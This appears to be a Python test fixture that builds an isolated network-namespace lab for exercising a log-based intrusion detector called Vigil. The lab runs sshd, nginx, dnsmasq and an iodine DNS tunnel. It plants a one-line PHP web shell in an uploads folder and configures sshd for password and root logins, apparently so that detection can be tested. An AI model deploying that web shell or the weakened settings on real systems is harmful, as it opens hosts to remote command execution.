"""A live-fire lab in network namespaces (root, `ip netns`, `nft`): a test host running real
services whose logs stream to Vigil, attacker hosts (one a scenario, so blocking one leaves
the others able to attack), a bystander, and an outside DNS server.

The test host (namespace `target`) runs:
- nftables, dropping and logging (NFLOG group 7) what its policy does not allow, with ulogd
  writing the packet log to `firewall.log` (netfilter's LOGEMU text, as in kern.log);
- OpenSSH's sshd, its log (`-e`, stderr) sent by util-linux `logger` over TCP to Vigil's
  syslog listener;
- nginx, its access log (combined format) in `access.log`, with an uploads folder holding a
  `shell.php`;
- dnsmasq, the resolver, forwarding `t.vigil.test` to the outside server, its query log in
  `dns.log`; the outside namespace runs iodined for that domain.

`attacker(name)` is (namespace, its address, the test host's address on its link). Skips,
naming why, where namespaces are not permitted or a tool is missing."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

TOOLS = ("ip", "nft", "ulogd", "sshd", "nginx", "dnsmasq", "iodined", "iodine", "logger",
         "nmap", "hydra", "gobuster", "curl", "ssh-keygen")  # fmt: skip
TUNNEL_DOMAIN = "t.vigil.test"
TUNNEL_PASSWORD = "vigil-lab-tunnel"
OUTSIDE = "10.240.99.9"  # the outside DNS server (iodined)
NFT = """
table inet vigil_lab {
  chain input {
    type filter hook input priority 0; policy drop;
    iif lo accept
    ct state established,related accept
    tcp dport { 22, 80 } accept
    udp dport 53 accept
    iifname "%(outside)s" accept
    log prefix "vigil-lab-drop " group 7 drop
  }
}
"""
ULOGD = """
[global]
logfile="%(folder)s/ulogd-daemon.log"
loglevel=3
plugin="%(plugins)s/ulogd_inppkt_NFLOG.so"
plugin="%(plugins)s/ulogd_raw2packet_BASE.so"
plugin="%(plugins)s/ulogd_filter_IFINDEX.so"
plugin="%(plugins)s/ulogd_filter_IP2STR.so"
plugin="%(plugins)s/ulogd_filter_PRINTPKT.so"
plugin="%(plugins)s/ulogd_output_LOGEMU.so"
stack=log1:NFLOG,base1:BASE,ifi1:IFINDEX,ip2str1:IP2STR,print1:PRINTPKT,emu1:LOGEMU

[log1]
group=7

[emu1]
file="%(folder)s/firewall.log"
sync=1
"""
SSHD = """
Port 22
ListenAddress 0.0.0.0
HostKey %(folder)s/ssh_host_ed25519_key
PidFile %(folder)s/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin yes
MaxAuthTries 6
MaxStartups 100:30:200
LogLevel INFO
"""
NGINX = """
daemon off;
user root;
worker_processes 1;
pid %(folder)s/nginx.pid;
error_log %(folder)s/nginx-error.log;
events { worker_connections 256; }
http {
  access_log %(folder)s/access.log combined;
  client_body_temp_path %(folder)s/nginx-body;
  proxy_temp_path %(folder)s/nginx-proxy;
  fastcgi_temp_path %(folder)s/nginx-fastcgi;
  uwsgi_temp_path %(folder)s/nginx-uwsgi;
  scgi_temp_path %(folder)s/nginx-scgi;
  server {
    listen 80;
    root %(folder)s/www;
  }
}
"""


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True)


def _plugins() -> Path:
    found = sorted(Path("/usr/lib").glob("*/ulogd/ulogd_inppkt_NFLOG.so"))
    if not found:
        pytest.skip("ulogd2's plugins are not installed (make test installs ulogd2)")
    return found[0].parent


class LiveLab:
    def __init__(self, folder: Path, attackers: list[str]) -> None:
        if os.geteuid() != 0:
            pytest.skip("live fire needs root for network namespaces (as CI runs)")
        missing = [tool for tool in TOOLS if shutil.which(tool) is None]
        if missing:
            pytest.skip(f"live fire needs {', '.join(missing)} (make test installs them)")
        self.folder = folder
        self.tag = uuid.uuid4().hex[:5]
        self.target = f"lt{self.tag}"
        self.outside = f"lo{self.tag}"
        self.names = [*attackers, "bystander"]
        self.attackers: dict[str, tuple[str, str, str]] = {}
        self.namespaces: list[str] = []
        self.processes: list[subprocess.Popen[bytes]] = []
        self.logs = {n: folder / f"{n}.log" for n in ("firewall", "access", "dns")}
        self._said: Any = None  # the services' own messages

    def attacker(self, name: str) -> tuple[str, str, str]:
        return self.attackers[name]

    def inside(self, namespace: str) -> list[str]:
        return ["ip", "netns", "exec", namespace]

    # --- the network ------------------------------------------------------------------------

    def build(self) -> LiveLab:
        """Namespaces, links and the test host's firewall; the log files made, empty (Vigil
        tails them from the start)."""
        for path in self.logs.values():
            path.touch()
        try:
            self._namespace(self.target)
        except subprocess.CalledProcessError as exc:
            pytest.skip(f"network namespaces are not permitted here: {exc.stderr.decode()}")
        self._namespace(self.outside)
        self._link(self.outside, f"x{self.tag}", f"y{self.tag}", "10.240.99", host=9)
        for number, name in enumerate(self.names, 1):
            namespace = f"la{self.tag}{number}"
            self._namespace(namespace)
            net = f"10.240.{number}"
            self._link(namespace, f"a{self.tag}{number}", f"b{self.tag}{number}", net)
            self.attackers[name] = (namespace, f"10.240.{number}.1", f"10.240.{number}.2")
        rules = self.folder / "lab.nft"
        rules.write_text(NFT % {"outside": f"x{self.tag}"})
        subprocess.run([*self.inside(self.target), "nft", "-f", str(rules)], check=True)
        return self

    def _namespace(self, name: str) -> None:
        _ip("netns", "add", name)
        self.namespaces.append(name)
        _ip("-n", name, "link", "set", "lo", "up")

    def _link(self, other: str, here: str, there: str, net: str, host: int = 1) -> None:
        """A link from the test host (.2 on `net`) to `other` (.`host`)."""
        _ip("link", "add", here, "netns", self.target, "type", "veth", "peer", "name", there,
            "netns", other)  # fmt: skip
        _ip("-n", self.target, "addr", "add", f"{net}.2/24", "dev", here)
        _ip("-n", other, "addr", "add", f"{net}.{host}/24", "dev", there)
        _ip("-n", self.target, "link", "set", here, "up")
        _ip("-n", other, "link", "set", there, "up")

    # --- the services -----------------------------------------------------------------------

    def start(self, syslog_port: int) -> LiveLab:
        """Every service, sshd's log going to Vigil's syslog listener on `syslog_port`."""
        folder = self.folder
        values = {"folder": folder, "plugins": _plugins()}
        (folder / "ulogd.conf").write_text(ULOGD % values)
        self._run([*self.inside(self.target), "ulogd", "-c", str(folder / "ulogd.conf")])
        (folder / "www" / "uploads").mkdir(parents=True, exist_ok=True)
        (folder / "www" / "index.html").write_text("<h1>lab</h1>\n")
        (folder / "www" / "uploads" / "shell.php").write_text("<?php system($_GET['cmd']); ?>\n")
        (folder / "nginx.conf").write_text(NGINX % values)
        self._run([*self.inside(self.target), "nginx", "-p", str(folder), "-c",
                   str(folder / "nginx.conf")])  # fmt: skip
        served = [address for _, _, address in self.attackers.values()]
        self._run([*self.inside(self.target), "dnsmasq", "--keep-in-foreground",
                   "--conf-file=/dev/null", "--bind-interfaces", "--no-resolv", "--no-hosts",
                   *(f"--listen-address={a}" for a in served),
                   f"--server=/{TUNNEL_DOMAIN}/{OUTSIDE}", "--log-queries=extra",
                   f"--log-facility={self.logs['dns']}", f"--pid-file={folder}/dnsmasq.pid",
                   "--user=root", "--cache-size=0"])  # fmt: skip
        self._run([*self.inside(self.outside), "iodined", "-f", "-c", "-l", OUTSIDE, "-P",
                   TUNNEL_PASSWORD, "192.168.99.1", TUNNEL_DOMAIN])  # fmt: skip
        key = folder / "ssh_host_ed25519_key"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)],
                       check=True, capture_output=True)  # fmt: skip
        (folder / "sshd_config").write_text(SSHD % values)
        Path("/run/sshd").mkdir(exist_ok=True)  # sshd's privilege separation folder
        sshd = self._run([*self.inside(self.target), "/usr/sbin/sshd", "-D", "-e", "-f",
                          str(folder / "sshd_config")], stderr=subprocess.PIPE)  # fmt: skip
        self._run(["logger", "--tcp", "-n", "127.0.0.1", "-P", str(syslog_port), "--rfc3164",
                   "-t", "sshd"], stdin=sshd.stderr)  # fmt: skip
        self._ready()
        return self

    def _run(self, command: list[str], **kwargs) -> subprocess.Popen[bytes]:
        kwargs.setdefault("stdout", subprocess.DEVNULL)
        if "stderr" not in kwargs:
            kwargs["stderr"] = self._said = self._said or (self.folder / "services.log").open("ab")
        # their logs' time stamps carry no zone: written in UTC, as Vigil reads them
        process = subprocess.Popen(command, env={**os.environ, "TZ": "UTC"}, **kwargs)
        self.processes.append(process)
        return process

    def _ready(self) -> None:
        """Until sshd and nginx answer from the bystander's side and ulogd has started."""
        started = self.folder / "ulogd-daemon.log"
        deadline = time.monotonic() + 30
        while not (
            all(self.connects("bystander", port) for port in (22, 80))
            and "entering main loop" in (started.read_text() if started.exists() else "")
        ):
            if time.monotonic() > deadline:
                said = (self.folder / "services.log").read_text(errors="replace")[-3000:]
                raise AssertionError(f"the lab's services did not come up: {said}")
            time.sleep(0.2)

    def connects(self, name: str, port: int) -> bool:
        """Whether a TCP connection from attacker `name` reaches the test host's port."""
        namespace, _, address = self.attacker(name)
        probe = (
            "import socket, sys\n"
            "try:\n"
            f"    socket.create_connection(('{address}', {port}), timeout=1.0).close()\n"
            "except OSError:\n    sys.exit(1)\n"
        )
        done = subprocess.run([*self.inside(namespace), sys.executable, "-c", probe],
                              capture_output=True, timeout=20)  # fmt: skip
        return done.returncode == 0

    def close(self) -> None:
        for process in reversed(self.processes):
            if process.poll() is None:
                process.terminate()
        for process in self.processes:
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                process.kill()
        for namespace in self.namespaces:
            subprocess.run(["ip", "netns", "del", namespace], capture_output=True)
        if self._said is not None:
            self._said.close()
